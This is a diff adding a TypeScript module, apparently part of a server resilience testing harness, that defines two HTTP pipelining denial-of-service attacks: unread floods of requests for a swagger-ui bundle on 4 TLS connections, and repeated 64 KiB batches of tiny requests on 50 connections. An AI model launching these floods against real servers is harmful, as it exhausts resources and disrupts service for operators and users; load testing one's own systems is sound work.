@@ -1,0 +1,52 @@
+import type { Socket } from "node:net";
+import { type Attack, scaled, sourceOf, type Target } from "../attack.ts";
+import { bytesOf, keepStanding, openSecure } from "../connection.ts";
+
+const BUNDLE = bytesOf({ path: "/docs/swagger-ui-bundle.js" });
+const BUNDLES = Buffer.concat(Array.from({ length: 290 }, () => BUNDLE));
+
+/** 64 KiB of whole requests, each as small as one can be. */
+const SMALLEST = Buffer.from("GET / HTTP/1.1\r\nHost:a\r\n\r\n");
+const TINY = Buffer.concat(Array.from({ length: Math.floor(65_536 / SMALLEST.length) }, () => SMALLEST));
+
+/** Answers that one batch has, and how many batches a connection sends. */
+const ANSWERS = TINY.length / SMALLEST.length;
+const MOST_BATCHES = 50;
+
+/** Sends a batch, and the next when every answer of it has come. */
+function sendBatches(target: Target): Socket {
+	const socket = openSecure(target, sourceOf(target, 0));
+	let batches = 1;
+	let answered = 0;
+	socket.once("secureConnect", () => socket.write(TINY));
+	socket.on("data", (bytes: Buffer) => {
+		for (let at = bytes.indexOf("HTTP/1.1 "); at !== -1; at = bytes.indexOf("HTTP/1.1 ", at + 9)) answered++;
+		if (answered < batches * ANSWERS * 0.99 || batches === MOST_BATCHES) return;
+		batches++;
+		socket.write(TINY);
+	});
+	return socket;
+}
+
+/** Many requests at once on one connection. */
+export const PIPELINING: readonly Attack[] = [
+	{
+		name: "pipelined-bundle",
+		title: "290 requests for the API page's bundle at once, on 4 connections, not read",
+		isCutOff: true,
+		run(target, counts, over) {
+			const open = () => {
+				const socket = openSecure(target, sourceOf(target, 0));
+				socket.once("secureConnect", () => socket.write(BUNDLES));
+				return socket;
+			};
+			return keepStanding({ standing: 4, perTick: 1, open }, counts, over);
+		},
+	},
+	{
+		name: "pipelined-tiny",
+		title: "64 KiB of tiny requests at once, again and again, on 50 connections",
+		run: (target, counts, over) =>
+			keepStanding({ standing: scaled(target, 50), perTick: 5, open: () => sendBatches(target) }, counts, over),
+	},
+];
